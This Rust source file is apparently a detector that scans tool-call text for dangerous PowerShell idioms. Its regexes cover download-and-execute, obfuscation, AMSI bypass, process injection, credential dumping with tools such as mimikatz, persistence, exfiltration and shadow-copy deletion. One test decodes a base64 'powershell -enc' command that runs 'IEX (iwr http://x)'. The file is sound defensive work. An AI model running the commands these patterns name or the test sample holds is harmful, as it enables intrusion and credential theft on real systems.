//! PowerShell's idioms: .NET called from a one-liner, scripts in base64, tools known by name.

use crate::idioms::Idioms;
use crate::toolcall::{Danger, base64_text};
use regex_automata::meta::Regex;
use std::sync::LazyLock;

const IDIOMS: &[(Danger, &str)] = &[
    (
        Danger::RemoteCode,
        r"(?i)\b(iex|invoke-expression|icm|invoke-command)\b[^\n]{0,300}(download(string|file|data)|\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|webclient|http)",
    ),
    (
        Danger::RemoteCode,
        r"(?i)(download(string|data)|\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|msxml2\.(server)?xmlhttp|winhttp)[^\n]{0,400}(\||;)\s*(iex|invoke-expression|&|\.)\b?",
    ),
    (Danger::RemoteCode, r"(?i)\.download(file|string|data)(async)?\s*\("),
    (Danger::RemoteCode, r"(?i)\[scriptblock\]::create|msxml2\.xmlhttp|winhttp\.winhttprequest"),
    (
        Danger::Disguise,
        r"(?i)frombase64string|\[char\]\s*\d+\s*\+|-join\s*\(?\s*\[char\[\]\]|-bxor\s*\d|\[convert\]::toint|\.invoke\(\s*['\x22]i['\x22]",
    ),
    (
        Danger::Disguise,
        r"(?i)\btype\s+[^\n>|]{1,200}>\s*\S+\.\w+:\w+|\.(txt|log|jpg|docx?):[\w.]+\.(exe|dll|vbs|js|ps1|bat|hta)\b|-stream\s+\w",
    ),
    (Danger::ReverseShell, r"(?i)net\.sockets\.(tcpclient|tcplistener|udpclient)"),
    (
        Danger::Evade,
        r"(?i)amsi(utils|initfailed|scanbuffer|context)|\[ref\]\.assembly\.gettype|etweventwrite|psetwlogprovider|bypassuac|uacbypass|uacme|akagi",
    ),
    (
        Danger::Proxy,
        r"(?i)virtualalloc|createremotethread|writeprocessmemory|ntcreatethreadex|queueuserapc|minidumpwritedump|ntmapviewofsection|getdelegateforfunctionpointer|loadlibrary\(|reflection\.assembly\]::load|\[appdomain\]::currentdomain",
    ),
    (
        Danger::Proxy,
        r"(?i)(new-object\s+-com(object)?|createobject|\[activator\]::createinstance|gettypefrom(clsid|progid))\W{0,4}[\w.{}\s:()\[\]'\x22-]{0,60}(wscript\.shell|shell\.application|mmc20|outlook\.application|excel\.application|internetexplorer|schedule\.service|shellwindows|shellbrowserwindow|word\.application|wbemscripting|shell\.users|\{?[0-9a-f]{8}-)",
    ),
    (
        Danger::Spy,
        r"(?i)getasynckeystate|setwindowshookex|copyfromscreen|get-keystrokes|getforegroundwindow|windows\.forms\.clipboard|windows\.clipboard",
    ),
    (
        Danger::Persist,
        r"(?i)\\currentversion\\(run|runonce)\b|createshortcut\(|__eventfilter|commandlineeventconsumer|\\startup\\|schedule\.service|-psprovider\s+registry",
    ),
    (
        Danger::Credentials,
        r"(?i)mimikatz|sekurlsa|lsadump|kerberos::|invoke-mimi|\blsass(\.exe|\.dmp)?\b|comsvcs|procdump|ntds\.dit|\\sam\b.{0,40}\bsave\b|sharpdpapi|rubeus|kerberoast|asreproast|dcsync|lazagne|hashdump|pwdump|sharpweb|passwordvault|logonpasswords|getnetworkcredential\(|\bcreds?\.txt|nanodump|safetykatz|promptforcredential|get-credential\b.{0,200}(password|networkcredential)|credui",
    ),
    (
        Danger::Recon,
        r"(?i)bloodhound|sharphound|powerview|seatbelt|winpeas|powersploit|powerup\.ps1|adrecon|adsisearcher|directoryservices\.(directorysearcher|activedirectory)",
    ),
    (
        Danger::RemoteCode,
        r"(?i)powersploit|nishang|cobalt ?strike|meterpreter|metasploit|invoke-empire|empireproject|psempire|covenant|sliver-client|havoc|winpwn|powersharppack|inveigh|psattack",
    ),
    (
        Danger::Exfiltrate,
        r"(?i)(invoke-(webrequest|restmethod)|\biwr\b|\birm\b)[^\n]{0,300}-method\s+(post|put)[^\n]{0,300}(-infile|-body)|uploadfile\(|uploadstring\(|uploaddata\(|send-mailmessage",
    ),
    (
        Danger::Destroy,
        r"(?i)\bgwmi\b.{0,40}win32_shadowcopy|win32_shadowcopy.{0,80}delete|\.createencryptor\(|cipher\s+/w",
    ),
    (
        Danger::Escalate,
        r"(?i)duplicatetoken|impersonateloggedonuser|sedebugprivilege|setthreadtoken|openprocesstoken|adjusttokenprivileges",
    ),
    (
        Danger::Lateral,
        r"(?i)\\\\[\w.%$-]+\\(admin|c|ipc)\$|invoke-wmimethod.{0,120}-computer|wmiclass\]\s*['\x22]?\\\\",
    ),
    (
        Danger::Tamper,
        r"(?i)(copy|move|ren|del|echo|out-file|set-content|expand)\b[^\n]{0,120}\\(system32|syswow64)\\[\w.\\]+\s*$|drivers\\etc\\hosts",
    ),
];

static PATTERNS: LazyLock<Idioms> = LazyLock::new(|| Idioms::new(IDIOMS.iter().map(|idiom| idiom.1)));

static ENCODED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:\s[-/](?:e|ec|enc|en|enco\w*)\s+['"]?|frombase64string\(\s*['"])([a-z0-9+/=]{16,})"#)
        .ok()
});

/// The idioms in a text: first byte, one past the last, danger.
pub fn powershell(text: &str) -> Vec<(usize, usize, Danger)> {
    let mut found: Vec<Option<(usize, usize)>> = vec![None; IDIOMS.len()];
    for (at, pattern) in PATTERNS.of(text) {
        found[at] = pattern.find(text).map(|hit| (hit.start(), hit.end()));
    }
    if let Some(plain) = undisguised(text) {
        for (at, pattern) in PATTERNS.of(&plain) {
            if found[at].is_none() && pattern.is_match(&plain) {
                found[at] = Some((0, text.len()));
            }
        }
    }
    let dangers = IDIOMS.iter().map(|idiom| idiom.0);
    found
        .into_iter()
        .zip(dangers)
        .filter_map(|(place, danger)| place.map(|(start, end)| (start, end, danger)))
        .collect()
}

/// The text without the tricks that split words (`'down'+'load'`, `` i`ex ``, `p^ower`), where there are any.
fn undisguised(text: &str) -> Option<String> {
    if !["'+'", "' + '", "\"+\"", "\" + \"", "`", "^"].iter().any(|trick| text.contains(trick)) {
        return None;
    }
    let joined = text.replace("'+'", "").replace("' + '", "").replace("\"+\"", "").replace("\" + \"", "");
    Some(joined.replace(['`', '^'], ""))
}

/// Scripts that the text carries in base64.
pub fn encoded(text: &str) -> Vec<String> {
    let Some(pattern) = ENCODED.as_ref() else { return Vec::new() };
    pattern
        .captures_iter(text)
        .take(8)
        .filter_map(|found| base64_text(text.get(found.get_group(1)?.range())?))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_idiom_compiles() {
        assert_eq!(PATTERNS.compiling(), IDIOMS.len());
        assert!(ENCODED.is_some());
    }

    #[test]
    fn a_script_in_base64_is_read() {
        let text = "powershell -NoP -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA";
        assert_eq!(encoded(text), ["IEX (iwr http://x)"]);
    }
}
